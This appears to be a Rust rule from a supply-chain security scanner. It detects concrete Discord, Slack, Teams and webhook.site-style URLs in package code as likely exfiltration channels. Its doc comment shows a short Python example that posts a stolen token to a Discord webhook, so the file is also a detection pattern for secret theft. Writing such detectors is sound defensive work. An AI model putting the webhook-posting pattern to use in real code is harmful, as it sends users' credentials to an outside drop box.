use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::text::ServiceClass;

use super::util::{Mention, context_severity, is_placeholder, service_mentions, subdomain};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a concrete webhook URL — a Discord or Slack incoming webhook with its id and
/// token, a Teams connector, a webhook.site / pipedream / requestbin inbox — written
/// in a string of source code or in an npm lifecycle script. Base URLs and
/// placeholders (`https://hooks.slack.com/services/{token}`), documentation and
/// comments do not count.
///
/// ## Why is this bad?
/// A webhook URL with its secret is a write-only drop box anyone can post to: no
/// server, no account, nothing to take down quickly. Stealers post harvested tokens,
/// cookies and files to one, and dependency-confusion probes post the victim's host
/// name and user. A library has no reason to ship someone's live webhook; notifier
/// libraries take the URL from their user. In code that runs at install or import
/// time it is the exfiltration channel of an attack in progress.
///
/// ## Example
/// ```python
/// WEBHOOK = "https://discord.com/api/webhooks/112233445566778899/AbCdEf…"
/// requests.post(WEBHOOK, json={"content": token})
/// ```
#[derive(Debug)]
pub struct WebhookExfil;

/// Whether a webhook mention carries a concrete target (an id and secret, an inbox).
fn concrete(m: &Mention<'_>) -> bool {
    if is_placeholder(&m.rest) {
        return false;
    }
    let path = m.rest.trim_start_matches('/');
    match m.entry {
        "discord.com/api/webhooks" | "discordapp.com/api/webhooks" => {
            let after = path
                .get("api/webhooks/".len()..)
                .filter(|_| path.to_ascii_lowercase().starts_with("api/webhooks/"))
                .unwrap_or("");
            let mut parts = after.split('/');
            let id = parts.next().unwrap_or("");
            let token = parts.next().unwrap_or("");
            id.len() >= 15 && id.bytes().all(|b| b.is_ascii_digit()) && token.len() >= 20
        }
        "hooks.slack.com" => path.starts_with("services/") && path.len() >= 30,
        "webhook.office.com" | "outlook.office.com/webhook" => path.len() >= 30,
        _ => {
            let label = subdomain(&m.host, m.entry)
                .is_some_and(|l| !matches!(l, "www" | "api" | "docs" | "app" | "dashboard"));
            label || path.trim_end_matches('/').len() >= 16
        }
    }
}

impl Rule for WebhookExfil {
    fn id(&self) -> &'static str {
        "NET-WEBHOOK-EXFIL"
    }
    fn category(&self) -> Category {
        Category::EXFILTRATION
    }
    fn summary(&self) -> &'static str {
        "a concrete webhook URL (Discord, Slack, webhook.site, …) in code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for m in service_mentions(input, &[ServiceClass::Webhook]) {
            if !concrete(&m) {
                continue;
            }
            out.push(finding(
                self.id(),
                context_severity(Severity::High, m.file),
                self.category(),
                format!(
                    "code holds a webhook URL on `{}` (a write-only drop box for stolen data)",
                    m.host
                ),
                Some(&m.file.path),
                Some(m.line),
                Some(&m.text),
            ));
        }
    }
}
